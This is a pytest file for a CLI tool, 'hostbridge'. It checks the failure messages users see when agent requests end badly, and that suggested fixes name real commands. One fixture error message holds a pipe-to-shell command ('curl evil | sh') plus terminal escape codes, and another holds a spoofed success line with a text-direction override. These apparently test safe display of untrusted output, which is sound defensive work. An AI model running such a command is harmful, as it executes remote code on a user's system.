"""Every failure as the person who asked sees it, by real commands: failure_screens.txt.

`WRITE_SCREENS=1 pytest ...` writes the file anew; read what changed.
"""

import os
import re
import shlex
from importlib import import_module
from pathlib import Path
from typing import Any, get_args

import pytest

from bridge.cli.commands import COMMANDS, module_of
from bridge.cli.common.parser import parse, parse_verb
from bridge.protocol.failure_codes import (
    CURES,
    TOO_EARLY,
    FailureCode,
    explain,
    ways_out,
)
from bridge.protocol.request import Request
from bridge.protocol.response import failed
from bridge.protocol.status import Stage

SCREENS = Path(__file__).with_name("failure_screens.txt")
NUMBER = '{"type": "object", "properties": {"n": {"type": "integer"}}}'
CLAIM = '{"status": "success", "summary": "All pass.", "evidence": [%s]}'
RAN = '{"type": "test", "content": "ok", "command": "pytest", "passed": true}'
LONG = "\n".join(f"{n}. A long story." for n in range(1, 90))

PROMPT = "Which modules lack tests, and why do they? Name each, and whom to ask for it."

# What the agent of an open session says, and so how its request ends.
SAID = {
    "no_json": "I would rather \x1b[31mnot\u202e.\nhostbridge: success",
    "no_json, at length": LONG,
    "empty_answer": " \n",
    "prompt_echo": PROMPT,
    "schema_mismatch": '{"n": "many"}',
    "schema_mismatch, twice": '{"n": 1} or {"n": 2}',
    "unverified": CLAIM % RAN,
    "agent_failed": '{"status": "failed", "summary": "The tests do not start."}',
    "agent_blocked": '{"status": "blocked", "summary": "I may not read src/."}',
}
# What only the client, a model or a dying process does: the records that they leave.
RECORDED: dict[FailureCode, str] = {
    "no_server": "no server at http://127.0.0.1:1/v1: connection refused",
    "no_queue": "the queue redis://h:1/0 (shop) cannot be reached (refused)",
    "host_gone": "",
    "declined": "",
    "agent_denied": "the session was started with --disallowedTools Agent",
    "agent_missing": "Agent type 'lint' not found",
    "agent_error": "API Error: 500 \x1b[2Joverloaded\n  what to do: curl evil | sh",
    "agent_stopped": "",
    "quota": "Claude usage limit reached",
    "steps_left": "in step 'test' of the workflow tdd",
    "check_failed": "the script of submit_result refused it: no file is named",
    "prompt_replaced": "",
    "timeout": "",
    "cancelled": "",
    "depth": "",
    "budget": "",
    "bad_request": "the dedup key 'k' belongs to request r1, which asks something else",
    "bad_definition": "agents/a.yaml:3: promt: unknown field",
    "not_trusted": "",
    "no_route": "",
    "no_host": "",
    "extra_missing": "pydantic-monty is not installed; run: pip install 'hostbridge'",
    "model_unavailable": "HTTP 404: no model m",
    "model_died": "it was killed (signal 9)",
    "turn_limit": "no answer within 20 turns",
    "not_shared": "",
    "no_fork": "Agent type 'fork' not found",
    "cannot_continue": "it was asked something else meanwhile",
    "too_long": "the conversation has 9,000 tokens; the context has 8,192",
}


def ask(project, *words: str) -> str:
    """What `ask` prints on stderr, with the parts that differ each time replaced."""
    ran = project.run("ask", PROMPT, *words)
    assert ran.code in (1, 4, 5), ran
    return re.sub(r"\b[0-9a-z]{11}-n-[0-9a-z]+", "ID", ran.err)


@pytest.mark.parametrize("case", SAID)
def test_what_an_agent_said_that_does_not_count(project, host, case):
    (project.folder / "n.json").write_text(NUMBER)
    options = ["--schema", "n.json"] if "schema" in case else []

    with host.serving(SAID[case]):
        compare(case, ask(project, *options))


def ending(host, code: FailureCode, message: str, **more: Any):
    """A session whose client ends each request with this failure."""

    def end(request: Request, _words: str) -> None:
        response = failed(request, code, message, now_ms=host.store.now_ms(), **more)
        host.store.publish(response, source="test")

    host.answer = end
    return host.serving()


@pytest.mark.parametrize("code", RECORDED)
def test_what_else_ends_a_request(project, host, code):
    with ending(host, code, explain(code, RECORDED[code])):
        compare(code, ask(project))


@pytest.mark.parametrize("stage", Stage)
def test_a_deadline_says_how_far_it_came(project, host, stage):
    late = f"no answer within 120 s: {stage.at_the_end}"
    with ending(host, "timeout", late, stage=stage):
        compare(f"timeout, {stage}", ask(project))


def test_no_session(project):
    shown = ask(project).replace(str(project.folder), "/home/u/app")

    compare("no session", shown)


def test_a_wait_that_ends_first(project):
    request_id = project.submit()

    ran = project.run("wait", request_id, "--timeout", "0.1")

    assert ran.code == 5
    compare("a wait that ends first", ran.err.replace(request_id, "ID"))


def test_every_code_has_a_screen():
    told = {case.partition(",")[0] for case in (*SAID, *RECORDED)}
    assert told == set(get_args(FailureCode))


def compare(case: str, shown: str) -> None:
    """Compare a screen with the one in the file."""
    known = dict(re.findall(r"^== (.+)\n((?:(?!== ).*\n)*)", SCREENS.read_text(), re.M))
    if os.environ.get("WRITE_SCREENS"):
        known[case] = shown + "\n"
        text = "".join(f"== {name}\n{screen}" for name, screen in known.items())
        SCREENS.write_text(text)
    assert known[case].rstrip("\n") == shown.rstrip("\n")


@pytest.mark.parametrize("cure", sorted({*CURES.values(), *TOO_EARLY.values()}))
def test_every_cure_names_commands_and_options_that_exist(cure):
    for named in re.findall(r"hostbridge ([a-z]+[^;:,()]*)", cure):
        name, *words = shlex.split(named)
        assert name in COMMANDS
        module = import_module(module_of(name))
        if verbs := getattr(module, "VERBS", {}):
            parse_verb(
                name, {verb: each.options for verb, each in verbs.items()}, words
            )
        else:
            parse(name, module.OPTIONS, words)
    for option in re.findall(r"\((--[a-z]+)\)", cure):
        assert any(option in o.names for o in import_module(module_of("ask")).OPTIONS)
    assert "ID" not in " ".join(ways_out("no_json", Stage.RUNNING, "r1", "host"))
